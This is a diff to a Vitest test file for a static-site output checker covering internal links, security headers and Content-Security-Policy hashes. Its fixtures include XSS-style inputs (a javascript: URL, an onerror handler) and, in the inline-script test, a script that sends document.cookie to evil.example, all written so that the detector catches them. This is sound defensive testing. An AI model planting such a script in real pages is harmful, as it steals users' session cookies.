@@ -5,7 +5,7 @@ import { markdownToHtml } from 'satteri';
 import { afterEach, describe, expect, it } from 'vitest';
 import { bodyLinks } from '../../src/lib/markdown/body-links';
 import { recalled, remember } from '../../src/lib/incremental/remembered';
-import { distStamp, forgetBuiltPages } from '../../src/lib/output/built-pages';
+import { readPageRecord } from '../../src/lib/output/page-record';
 import { checkDist, findSourceMaps } from '../../src/lib/output/check-dist';
 import { collectInlineCode, cspHash } from '../../src/lib/output/inline-code';
 import { contentSecurityPolicy, headersFileBlock, securityHeaders } from '../../src/lib/output/security-headers';
@@ -26,7 +26,7 @@ afterEach(() => rmSync(dist, { recursive: true, force: true }));
 const page = (body: string, head = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;
 
 describe('checkDist: every internal link in dist/ resolves', () => {
-  it('accepts pages, files, srcset candidates, anchors and sitemap URLs that exist, below a base path', () => {
+  it('accepts pages, files, srcset candidates, anchors and sitemap URLs that exist, below a base path', async () => {
     write({
       'index.html': page(
         '<a href="/insights/journal/x/#why">x</a><a href="journal/">j</a><a href="#top">top</a>' +
@@ -41,10 +41,10 @@ describe('checkDist: every internal link in dist/ resolves', () => {
       '_astro/b.webp': '',
       'sitemap-0.xml': '<urlset><url><loc>https://site.example/insights/journal/x/</loc></url></urlset>',
     });
-    expect(checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([]);
+    expect(await checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([]);
   });
 
-  it('names the page and the target of every broken link', () => {
+  it('names the page and the target of every broken link', async () => {
     write({
       'index.html': page(
         '<a href="/insights/journal/gone/">a</a><a href="/insights/journal/x/#nope">b</a><a href="/journal/x/">c</a>' +
@@ -54,7 +54,7 @@ describe('checkDist: every internal link in dist/ resolves', () => {
       'journal/x/index.html': page('<h2 id="why">Why</h2><a href="#how">how</a>'),
       'sitemap-0.xml': '<urlset><url><loc>https://site.example/insights/journal/old/</loc></url></urlset>',
     });
-    expect(checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([
+    expect(await checkDist(dist, { site: 'https://site.example', base: '/insights/' })).toEqual([
       '/insights/ (dist/index.html): <meta og:image> "https://site.example/insights/og/home.png": nothing is built at /insights/og/home.png (no such file in dist/)',
       '/insights/ (dist/index.html): <a href> "/insights/journal/gone/": nothing is built at /insights/journal/gone/ (no such file in dist/)',
       '/insights/ (dist/index.html): <a href> "/insights/journal/x/#nope": no element with id "nope" on /insights/journal/x/',
@@ -65,25 +65,25 @@ describe('checkDist: every internal link in dist/ resolves', () => {
     ]);
   });
 
-  it('checks an anchor on a former address against the page it redirects to', () => {
+  it('checks an anchor on a former address against the page it redirects to', async () => {
     write({
       'index.html': page('<a href="/insights/journal/old/#why">a</a><a href="/insights/journal/old/#nope">b</a>'),
       'journal/old/index.html': page('', '<meta http-equiv="refresh" content="0;url=/insights/journal/x/">'),
       'journal/x/index.html': page('<h2 id="why">Why</h2>'),
     });
-    expect(checkDist(dist, { base: '/insights/' })).toEqual([
+    expect(await checkDist(dist, { base: '/insights/' })).toEqual([
       '/insights/ (dist/index.html): <a href> "/insights/journal/old/#nope": no element with id "nope" on /insights/journal/old/',
     ]);
   });
 
-  it('refuses javascript: URLs, inline event handlers and external links without rel="noopener"', () => {
+  it('refuses javascript: URLs, inline event handlers and external links without rel="noopener"', async () => {
     write({
       'index.html': page(
         '<a href="javascript:alert(1)">x</a><img src="/a.png" onerror="alert(1)"><a href="https://x.example/">x</a>',
       ),
       'a.png': '',
     });
-    expect(checkDist(dist, { base: '/' })).toEqual([
+    expect(await checkDist(dist, { base: '/' })).toEqual([
       '/ (dist/index.html): <img onerror>: inline event handler, which the Content-Security-Policy blocks (use a script file)',
       '/ (dist/index.html): <a href> "https://x.example/": link to another site without rel="noopener" (add it)',
       '/ (dist/index.html): <a href> "javascript:alert(1)": javascript: URL (remove it)',
@@ -109,9 +109,9 @@ describe('security headers', () => {
       'other/index.html': page('', `<script>${theme}</script>`),
     });
 
-  it('hashes each executable inline script once, and leaves out data blocks and script files', () => {
+  it('hashes each executable inline script once, and leaves out data blocks and script files', async () => {
     files();
-    expect(collectInlineCode(dist)).toEqual({
+    expect(await collectInlineCode(dist)).toEqual({
       scripts: [cspHash(theme)],
       styles: [cspHash('p{margin:0}')],
       styleAttributes: [cspHash('color: red')],
@@ -128,9 +128,9 @@ describe('security headers', () => {
     expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'/);
   });
 
-  it('writes a _headers block for every path', () => {
+  it('writes a _headers block for every path', async () => {
     files();
-    const headers = securityHeaders(dist);
+    const headers = securityHeaders(dist, await collectInlineCode(dist));
     expect(Object.keys(headers)).toEqual([
       'Content-Security-Policy',
       'X-Content-Type-Options',
@@ -155,7 +155,7 @@ describe('inline scripts in dist/', () => {
     expect(siteScriptHashes()).toEqual([cspHash(THEME_SCRIPT)]);
   });
 
-  it('fail the output check when a page holds an inline script the templates do not write', () => {
+  it('fail the output check when a page holds an inline script the templates do not write', async () => {
     write({
       'index.html': page(
         '<script>fetch("https://evil.example/?" + document.cookie)</script>' +
@@ -163,8 +163,7 @@ describe('inline scripts in dist/', () => {
         `<script>${THEME_SCRIPT}</script>`,
       ),
     });
-    forgetBuiltPages();
-    expect(checkDist(dist, { base: '/' })).toEqual([
+    expect(await checkDist(dist, { base: '/' })).toEqual([
       '/ (dist/index.html): <script>fetch("https://evil.example/?" + document.cookie)</script>: an inline script the site\'s templates do not write, which the Content-Security-Policy blocks (find what put it there; site scripts are files)',
       '/ (dist/index.html): <script>{"imports":{}}</script>: an inline script the site\'s templates do not write, which the Content-Security-Policy blocks (find what put it there; site scripts are files)',
     ]);
@@ -189,20 +188,15 @@ describe('bodyLinks: the Markdown plugin for links in bodies', () => {
   });
 });
 
-describe('results remembered for an unchanged dist/', () => {
-  it('stamps dist/ by its file list and the bytes of pages and feeds', () => {
-    write({ 'index.html': page('<p>a</p>'), 'a.png': 'x', 'sitemap-0.xml': '<urlset></urlset>' });
-    const first = distStamp(dist);
-    forgetBuiltPages();
-    expect(distStamp(dist)).toBe(first);
-    writeFileSync(join(dist, 'index.html'), page('<p>b</p>'));
-    expect(distStamp(dist), 'taken once a build').toBe(first);
-    forgetBuiltPages();
-    const edited = distStamp(dist);
-    expect(edited).not.toBe(first);
-    writeFileSync(join(dist, 'b.png'), 'y');
-    forgetBuiltPages();
-    expect(distStamp(dist)).not.toBe(edited);
+describe('page records and results remembered for an unchanged dist/', () => {
+  it('reads a page into the same record whatever file holds it, with the CSP hashes of its inline code', () => {
+    const html = page('<a id="x" href="/y/" style="color: red">y</a>', '<script>a()</script>');
+    const record = readPageRecord('a/index.html', html);
+    expect(readPageRecord('b/index.html', html)).toEqual(record);
+    expect(record.ids).toEqual(['x']);
+    expect(record.links).toEqual([{ url: '/y/', via: '<a href>' }]);
+    expect(record.inline).toEqual({ scripts: [cspHash('a()')], styles: [], styleAttributes: [cspHash('color: red')] });
+    expect(record.head).toEqual({ noindex: false });
   });
 
   it('recalls a result only for the same stamp and inputs, and keeps only the last one', () => {
